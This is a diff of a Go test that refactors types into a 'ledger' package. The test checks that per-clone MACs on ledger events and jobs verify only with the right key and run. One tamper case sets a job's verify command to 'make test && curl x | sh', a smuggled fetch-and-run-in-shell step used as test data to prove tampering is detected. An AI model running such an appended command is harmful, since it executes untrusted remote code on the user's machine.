@@ -3,6 +3,7 @@ package gitstate
 import (
 	"context"
 	"encoding/json"
+	"github.com/git-atlas/git-atlas/ledger"
 	"testing"
 )
 
@@ -14,10 +15,10 @@ func TestTextMACMarksWhatThisCloneWrote(t *testing.T) {
 	t.Parallel()
 	ctx := context.Background()
 	s := New(newRepo(t, repoKinds[0]))
-	newRun(t, s, "r", StageDef{Name: "code"})
+	newRun(t, s, "r", ledger.StageDef{Name: "code"})
 	data := json.RawMessage(`{"text": "a <b> & c",  "n": 1}`)
-	if _, err := s.Update(ctx, "r", func(r *Run) (*Change, error) {
-		return &Change{Event: Event{Type: EventNote, Data: data}}, nil
+	if _, err := s.Update(ctx, "r", func(r *ledger.Run) (*Change, error) {
+		return &Change{Event: ledger.Event{Type: ledger.EventNote, Data: data}}, nil
 	}); err != nil {
 		t.Fatal(err)
 	}
@@ -30,7 +31,7 @@ func TestTextMACMarksWhatThisCloneWrote(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	other := NewSessionKey([]byte("another clone's key, 32 bytes..."))
+	other := ledger.NewSessionKey([]byte("another clone's key, 32 bytes..."))
 	if !key.OwnEvent("r", &e) || other.OwnEvent("r", &e) || key.OwnEvent("r2", &e) {
 		t.Fatalf("event %+v: want its MAC to verify with this clone's key only, for run r only", e)
 	}
@@ -40,8 +41,8 @@ func TestTextMACMarksWhatThisCloneWrote(t *testing.T) {
 	}
 
 	s.Unsigned = true
-	if _, err := s.Update(ctx, "r", func(r *Run) (*Change, error) {
-		return &Change{Event: Event{Type: EventNote, Data: data}}, nil
+	if _, err := s.Update(ctx, "r", func(r *ledger.Run) (*Change, error) {
+		return &Change{Event: ledger.Event{Type: ledger.EventNote, Data: data}}, nil
 	}); err != nil {
 		t.Fatal(err)
 	}
@@ -50,17 +51,17 @@ func TestTextMACMarksWhatThisCloneWrote(t *testing.T) {
 		t.Fatalf("an unsigned store's event: %+v", e)
 	}
 
-	j := Job{ID: "j", Verify: "make test", Scope: []string{"a/**"}, Criteria: []string{"c"}, Result: json.RawMessage(`{"ok": true}`)}
+	j := ledger.Job{ID: "j", Verify: "make test", Scope: []string{"a/**"}, Criteria: []string{"c"}, Result: json.RawMessage(`{"ok": true}`)}
 	j.MAC = key.JobMAC("r", &j)
 	if !key.OwnJob("r", &j) || other.OwnJob("r", &j) {
 		t.Fatal("a job's MAC does not verify with this clone's key only")
 	}
-	for _, change := range []func(*Job){
-		func(j *Job) { j.Verify = "make test && curl x | sh" },
-		func(j *Job) { j.Scope = []string{"a/**", "b/**"} },
-		func(j *Job) { j.Criteria = nil },
-		func(j *Job) { j.Result = json.RawMessage(`{"ok": false}`) },
-		func(j *Job) { j.ID = "k" },
+	for _, change := range []func(*ledger.Job){
+		func(j *ledger.Job) { j.Verify = "make test && curl x | sh" },
+		func(j *ledger.Job) { j.Scope = []string{"a/**", "b/**"} },
+		func(j *ledger.Job) { j.Criteria = nil },
+		func(j *ledger.Job) { j.Result = json.RawMessage(`{"ok": false}`) },
+		func(j *ledger.Job) { j.ID = "k" },
 	} {
 		c := j
 		change(&c)
